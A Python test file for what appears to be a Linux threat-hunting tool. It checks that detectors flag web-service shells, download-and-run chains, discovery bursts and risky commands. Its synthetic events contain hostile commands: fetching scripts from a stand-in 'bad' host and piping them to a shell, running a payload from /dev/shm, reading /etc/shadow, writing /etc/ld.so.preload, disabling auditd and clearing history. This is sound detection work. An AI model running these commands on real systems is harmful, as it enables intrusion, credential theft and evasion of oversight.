"""What takes more than one command line to see."""

from __future__ import annotations

from typing import Any

import pandas as pd
import pytest

from linuxhunt.sections.finding import Finding
from linuxhunt.sections.processes import (
    DiscoveryBurst,
    DownloadAndRun,
    FasterThanTyped,
    RiskyCommand,
    ServiceShell,
)
from tests.made import events, utc
from tests.sections.ordinary import program_of

START = utc("2026-03-12 10:00:00")


def ran(
    second: float, command: str, guid: str, parent: str = "shell", **more: Any
) -> dict[str, Any]:
    """Return a row of ``processes``; argv is the command split at blanks unless given."""
    argv = more.pop("argv", command.split())
    cwd = more.get("TargetProcessCurrentDirectory", "/home/eve")
    return {
        "TimeGenerated": START + pd.Timedelta(seconds=second),
        "DvcHostname": "web01",
        "TargetProcessGuid": guid,
        "ActingProcessGuid": parent,
        "ActingProcessId": 50,
        "ActorUserId": 1001,
        "TargetUserId": 1001,
        "ActorSessionId": 7,
        "LogonSessionId": "s7",
        "Tty": "pts0",
        "TargetProcessName": program_of(argv[0], cwd),
        "CommandLine": " ".join(argv),
        "Argv": argv,
        "TargetProcessCurrentDirectory": cwd,
        "EventResult": "Success",
        "RecordIds": [f"audit:{guid}"],
        **more,
    }


def script(text: str) -> list[str]:
    return ["sh", "-c", text]


def told(found: list[Finding]) -> list[tuple[str, str, tuple[str, ...]]]:
    """Return severity, kind and records of findings."""
    return [(f.severity, f.title.split(":")[0], f.records) for f in found]


WEB = {"ActorUserId": None, "TargetUserId": 33, "ActorSessionId": None, "LogonSessionId": None,
       "Tty": None, "TargetProcessCurrentDirectory": "/var/www/shop"}  # fmt: skip
SERVICE = {**WEB, "TargetUserId": 998, "TargetProcessCurrentDirectory": "/"}


@pytest.mark.parametrize(
    ("rows", "severities"),
    [
        pytest.param([ran(0, "", "a", argv=script("id; whoami"), **WEB)], ["Medium"], id="whoami"),
        pytest.param(
            [
                ran(0, "", "a", argv=script("id"), **WEB),
                ran(60, "", "b", argv=script("uname -a"), **WEB),
                ran(90, "", "c", argv=script("cat /etc/passwd"), **WEB),
            ],
            ["High"],
            id="three kinds of question",
        ),
        pytest.param(
            [
                ran(0, "", "a", argv=script("whoami"), **WEB),
                ran(9_000, "", "b", argv=script("whoami"), **WEB),
            ],
            ["Medium", "Medium"],
            id="two visits",
        ),
        pytest.param(
            [
                ran(0, "sh -i", "a", **WEB),
                ran(5, "ls -la", "b", parent="a", **WEB),
            ],
            ["High"],
            id="a shell that waits",
        ),
        pytest.param([ran(0, "ls /tmp", "a", **WEB)], ["Low"], id="a look at files"),
        pytest.param(
            [ran(0, "", "a", argv=script("/usr/sbin/sendmail -t -i"), **WEB)], [], id="sendmail"
        ),
        pytest.param(
            [
                ran(0, "/usr/sbin/httpd", "top", parent="init", **SERVICE),
                ran(1, "", "a", parent="top", argv=script("whoami"), **SERVICE),
            ],
            ["Medium"],
            id="below a server program of an unknown account",
        ),
        pytest.param(
            [
                ran(0, "/usr/bin/java -jar app.jar", "top", parent="init", **SERVICE),
                ran(1, "", "a", parent="top", argv=script("cat /etc/passwd; id"), **SERVICE),
            ],
            ["Medium"],
            id="below java",
        ),
        pytest.param(
            [ran(0, "", "a", argv=script("whoami; df -h"), **SERVICE)], [], id="another service"
        ),
        pytest.param(
            [ran(0, "", "a", argv=script("id"), **{**WEB, "ActorUserId": 1000})],
            [],
            id="a person as the web user",
        ),
    ],
)
def test_service_shell(rows: list[dict[str, Any]], severities: list[str]) -> None:
    found = ServiceShell().run({"processes": events("processes", rows)})
    assert [finding.severity for finding in found] == severities


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        pytest.param(
            [
                ran(0, "curl -s http://files.bad.example/i.sh", "a"),
                ran(0.1, "bash", "b"),
                ran(2, "id", "c", parent="b"),
            ],
            [("High", "Download piped to a shell", ("audit:a", "audit:b", "audit:c"))],
            id="siblings, with what the shell ran",
        ),
        pytest.param(
            [
                ran(0, "wget -qO- https://files.bad.example/i.sh", "a"),
                ran(0.1, "sudo bash -s -- -y", "b"),
            ],
            [("Medium", "Download piped to a shell", ("audit:a", "audit:b"))],
            id="encrypted, into sudo",
        ),
        pytest.param(
            [ran(0, "curl -fsSL https://get.docker.com", "a"), ran(0.1, "sh", "b")],
            [("Low", "Download piped to a shell", ("audit:a", "audit:b"))],
            id="a maker's installer",
        ),
        pytest.param(
            [ran(0, "curl -s https://api.example.com/x", "a"), ran(30, "bash", "b")],
            [],
            id="a shell later",
        ),
        pytest.param(
            [ran(0, "curl -s http://127.0.0.1/health", "a"), ran(0.1, "bash", "b")], [], id="local"
        ),
        pytest.param(
            [
                ran(0, "", "top", argv=script("curl -s http://files.bad.example/x | sh")),
                ran(0.1, "curl -s http://files.bad.example/x", "a", parent="top"),
                ran(0.1, "sh", "b", parent="top"),
            ],
            [],
            id="the parent's text says it all",
        ),
        pytest.param(
            [
                ran(0, "curl -so /dev/shm/.x http://files.bad.example/x", "a"),
                ran(1, "chmod 755 /dev/shm/.x", "b"),
                ran(2, "nohup /dev/shm/.x -q", "c"),
            ],
            [("High", "Download run", ("audit:a", "audit:b", "audit:c"))],
            id="saved, made executable, run",
        ),
        pytest.param(
            [
                ran(0, "wget http://files.bad.example/a/go.sh?v=2", "a",
                    TargetProcessCurrentDirectory="/tmp"),
                ran(9, "bash go.sh", "b", TargetProcessCurrentDirectory="/tmp"),
            ],
            [("Medium", "Download run", ("audit:a", "audit:b"))],
            id="relative to the working directory",
        ),
        pytest.param(
            [
                ran(0, "curl -fsSL https://get.docker.com -o get-docker.sh", "a"),
                ran(9, "sh get-docker.sh", "b"),
            ],
            [("Low", "Download run", ("audit:a", "audit:b"))],
            id="installer saved and run",
        ),
        pytest.param(
            [
                ran(0, "wget https://example.org/tool.tar.gz", "a"),
                ran(9, "tar xzf tool.tar.gz", "b"),
            ],
            [],
            id="unpacked only",
        ),
    ],
)  # fmt: skip
def test_download_and_run(
    rows: list[dict[str, Any]], expected: list[tuple[str, str, tuple[str, ...]]]
) -> None:
    assert told(DownloadAndRun().run({"processes": events("processes", rows)})) == expected


LOOKS = ("whoami", "id", "uname -a", "cat /etc/passwd", "sudo -l", "ip a", "ps aux", "w")


@pytest.mark.parametrize(
    ("rows", "severities"),
    [
        pytest.param([ran(n * 8, c, c) for n, c in enumerate(LOOKS)], ["Medium"], id="burst"),
        pytest.param([ran(n * 600, c, c) for n, c in enumerate(LOOKS)], [], id="slow"),
        pytest.param(
            [ran(n, c, c) for n, c in enumerate(("w", "df -h", "uptime", "ps aux", "ss -tlnp",
                                                 "free -m", "last", "ip a", "uname -a", "id"))],
            [], id="a look at the host's health",
        ),
        pytest.param(
            [
                ran(0, "python3 /root/.ansible/tmp/x/AnsiballZ_setup.py", "facts"),
                *(ran(n * 0.1, c, c, parent="facts") for n, c in enumerate(LOOKS)),
            ],
            [], id="an inventory",
        ),
    ],
)  # fmt: skip
def test_discovery_burst(rows: list[dict[str, Any]], severities: list[str]) -> None:
    found = DiscoveryBurst().run({"processes": events("processes", rows)})
    assert [finding.severity for finding in found] == severities


@pytest.mark.parametrize(
    ("rows", "severities"),
    [
        pytest.param(
            [ran(-60, "-bash", "shell", parent="sshd"),
             *(ran(n * 0.1, f"tool{n}", f"g{n}") for n in range(9))],
            ["Low"], id="pasted",
        ),
        pytest.param(
            [ran(-60, "-bash", "shell", parent="sshd"),
             *(ran(n * 0.1, c, c) for n, c in enumerate((*LOOKS, "last", "lastlog")))],
            ["Medium"], id="pasted questions",
        ),
        pytest.param(
            [ran(-60, "-bash", "shell", parent="sshd"),
             *(ran(n * 4, f"tool{n}", f"g{n}") for n in range(9))],
            [], id="typed",
        ),
        pytest.param(
            [ran(-0.5, "-bash", "shell", parent="sshd"),
             *(ran(n * 0.1, f"tool{n}", f"g{n}") for n in range(9))],
            [], id="start files of the shell",
        ),
        pytest.param(
            [ran(-60, "bash build.sh", "shell", parent="x"),
             *(ran(n * 0.1, f"tool{n}", f"g{n}") for n in range(9))],
            [], id="a script",
        ),
    ],
)  # fmt: skip
def test_faster_than_typed(rows: list[dict[str, Any]], severities: list[str]) -> None:
    found = FasterThanTyped().run({"processes": events("processes", rows)})
    assert [finding.severity for finding in found] == severities


def logged(kind: str, second: float, command: str, **more: Any) -> dict[str, Any]:
    return {
        "TimeGenerated": START + pd.Timedelta(seconds=second), "DvcHostname": "web01",
        "CommandLine": command, "EventResult": "Success", "EventUid": f"{kind}:{second}",
        "RecordIds": [f"{kind}:{second}"], **more,
    }  # fmt: skip


def test_process_sudo_line_and_audit_of_one_command_are_one_finding() -> None:
    tables = {
        "processes": events("processes", [
            ran(0, "sudo cat /etc/shadow", "a"),
            ran(0.1, "cat /etc/shadow", "b", parent="a", TargetUserId=0),
        ]),
        "sudo": events("sudo", [
            logged("auth", 0, "/usr/bin/cat /etc/shadow", ActorUsername="eve",
                   TargetUsername="root"),
        ]),
        "audit": events("audit", [
            {"TimeGenerated": START, "DvcHostname": "web01", "type": "USER_CMD", "auid": 1001,
             "uid": 1001, "ses": 7, "cmdline": "cat /etc/shadow", "res": "success",
             "RecordIds": ["audit:u"], "fields": {"AUID": "eve"}},
        ]),
    }  # fmt: skip
    (found,) = RiskyCommand().run(tables)
    assert (found.severity, found.user, found.session, found.process, found.command) == (
        "High", "eve", "s7", "a", "sudo cat /etc/shadow",
    )  # fmt: skip
    assert set(found.records) == {"audit:a", "audit:b", "auth:0", "audit:u"}
    assert "sudo" in found.reason


def test_sudo_and_cron_alone() -> None:
    tables = {
        "sudo": events("sudo", [
            logged("auth", 0, "/usr/bin/cat /etc/shadow", ActorUsername="eve", LogonSessionId="s1"),
            logged("auth", 9, "/usr/bin/sh -c echo x > /etc/ld.so.preload", ActorUsername="eve",
                   LogonSessionId="s1"),
            logged("auth", 12, "/usr/bin/cat /etc/shadow", ActorUsername="bob",
                   EventResult="Failure"),
        ]),
        "cron": events("cron", [
            logged("cron", 60 * n, "/dev/shm/.k -q >/dev/null 2>&1", TargetUsername="root",
                   EventType="Run") for n in range(3)
        ]),
    }  # fmt: skip
    found = RiskyCommand().run(tables)
    assert [(f.severity, f.user, f.session, f.records) for f in found] == [
        ("High", "eve", "s1", ("auth:0",)),
        ("High", "root", None, ("cron:0", "cron:60", "cron:120")),
        ("High", "eve", "s1", ("auth:9",)),
    ]


def test_cron_line_and_its_process_are_one_finding_with_what_it_started() -> None:
    job = "pgrep -f .k || /dev/shm/.k -q"
    cron = {"ActorUserId": 0, "TargetUserId": 0, "Tty": None, "LogonSessionId": None}
    tables = {
        "processes": events("processes", [
            ran(1, "", "a", parent="cron", argv=["/bin/sh", "-c", job], **cron),
            ran(1.1, "pgrep -f .k", "b", parent="a", **cron),
        ]),
        "cron": events("cron", [
            logged("cron", 0, job, TargetUsername="root", EventType="Run"),
        ]),
    }  # fmt: skip
    (found,) = RiskyCommand().run(tables)
    assert set(found.records) == {"cron:0", "audit:a", "audit:b"}
    assert (found.user, found.process) == ("root", "a")


def test_keys_typed_are_read() -> None:
    typed = {"TimeGenerated": START, "DvcHostname": "web01", "type": "TTY", "auid": 1001, "uid": 0,
             "ses": 7, "RecordIds": ["audit:t"],
             "fields": {"data": "hsi\x7f\x7fistory -c\rls\r"}}  # fmt: skip
    (found,) = RiskyCommand().run({"audit": events("audit", [typed])})
    assert (found.severity, found.techniques, found.records) == (
        "Medium", ("T1070.003",), ("audit:t",),
    )  # fmt: skip


def test_ordinary_commands_count_in_bad_company() -> None:
    alone = [ran(0, "useradd -m ben", "a"), ran(5, "usermod -aG sudo ben", "b")]
    assert {f.severity for f in RiskyCommand().run({"processes": events("processes", alone)})} == {
        "Low"
    }
    worse = [*alone, ran(60, "auditctl -e 0", "c")]
    found = RiskyCommand().run({"processes": events("processes", worse)})
    assert {(f.severity, f.process) for f in found} == {
        ("Medium", "a"), ("Medium", "b"), ("High", "c"),
    }  # fmt: skip
    other = [*alone, ran(60, "auditctl -e 0", "c", LogonSessionId="s8")]
    found = RiskyCommand().run({"processes": events("processes", other)})
    assert {f.severity for f in found if f.process != "c"} == {"Low"}


def test_an_account_made_in_bad_company_is_watched() -> None:
    rows = [
        ran(0, "useradd -m ben", "a"),
        ran(9, "auditctl -e 0", "b"),
        ran(900, "id", "c", ActorUserId=1009, TargetUserId=1009, LogonSessionId="s9"),
    ]
    audit = [
        {"TimeGenerated": START, "DvcHostname": "web01", "type": "LOGIN", "auid": 1009, "uid": 0,
         "fields": {"AUID": "ben", "UID": "root"}, "RecordIds": ["audit:l"]},
    ]  # fmt: skip
    found = RiskyCommand().run(
        {"processes": events("processes", rows), "audit": events("audit", audit)}
    )
    used = [f for f in found if f.title.startswith("Account made in bad company used")]
    assert told(used) == [("High", "Account made in bad company used", ("audit:c",))]


def test_the_reason_has_the_numbers() -> None:
    rows = [ran(n, "cat /etc/shadow", f"g{n}", TargetUserId=0) for n in range(3)]
    (found,) = RiskyCommand().run({"processes": events("processes", rows)})
    assert found.reason == (
        "every account's password hash is in it; seen 3 times, by uid 1001 as root on pts0 in"
        " /home/eve"
    )
    assert (found.start, found.end) == (START, START + pd.Timedelta(seconds=2))
    assert (found.section, found.host, found.session) == ("applications", "web01", "s7")
